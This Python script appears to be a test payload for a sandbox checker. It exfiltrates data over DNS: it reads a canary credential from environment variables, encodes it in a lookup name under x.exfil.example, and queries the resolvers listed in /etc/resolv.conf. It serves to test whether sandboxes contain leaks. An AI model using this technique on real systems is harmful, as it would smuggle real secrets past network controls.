"""Exfiltrates data through DNS: a lookup whose name carries the data as a label.

The label is a credential the payload can see (if any decoy value is in its environment) or a
per-run marker; the resolver at the other end is what the system's resolv.conf names.
"""
import os
import socket

import sandcheck_payload as sc


def raw_query(server, name):
    return sc.udp_send(server, 53, sc.dns_query(name))


args = sc.start()
secret = next((v for v in os.environ.values() if args["canaryPrefix"] in v), None)
label = (secret or args["label"]).lower()[:63]
name = "%s.x.exfil.example" % label
# The name is never printed: only what reaches a resolver may carry the label out (the witness decides).
shown = "<%d-char label>.x.exfil.example" % len(label)
try:
    print("getaddrinfo %s: %s" % (shown, socket.getaddrinfo(name, 80)[0][4]))
except OSError as e:
    print("getaddrinfo %s: %s" % (shown, e))
servers = []
try:
    with open("/etc/resolv.conf") as fh:
        servers = [line.split()[1] for line in fh if line.startswith("nameserver") and len(line.split()) > 1]
except OSError:
    pass
for server in servers[:3] or ["192.0.2.53"]:
    print("raw query to %s: %s" % (server, raw_query(server, name)))
sc.done(args)
